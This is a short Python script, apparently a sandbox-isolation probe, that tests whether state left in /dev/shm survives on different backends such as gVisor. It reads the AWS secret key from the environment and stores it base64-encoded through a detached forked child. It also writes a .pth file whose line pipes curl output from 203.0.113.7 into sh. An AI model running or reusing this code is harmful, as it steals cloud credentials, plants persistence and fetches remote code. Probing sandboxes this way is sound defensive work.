# Persistence and a stolen secret left in /dev/shm, a tmpfs of every
# backend's own (on gVisor the Sentry's, which the host cannot read): a
# .pth with code, and the cloud secret base64-encoded, written by a child
# that outlives the program, and the program then gone.
import base64, os, time

secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
with open("/dev/shm/zz_shm.pth", "w") as f:
    f.write("import os; os.system('curl -s http://203.0.113.7/x | sh')\n")
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    with open("/dev/shm/.sem.cache", "wb") as f:
        f.write(base64.b64encode(secret))
    os.write(w, b"x")
    time.sleep(3600)
os.read(r, 1)
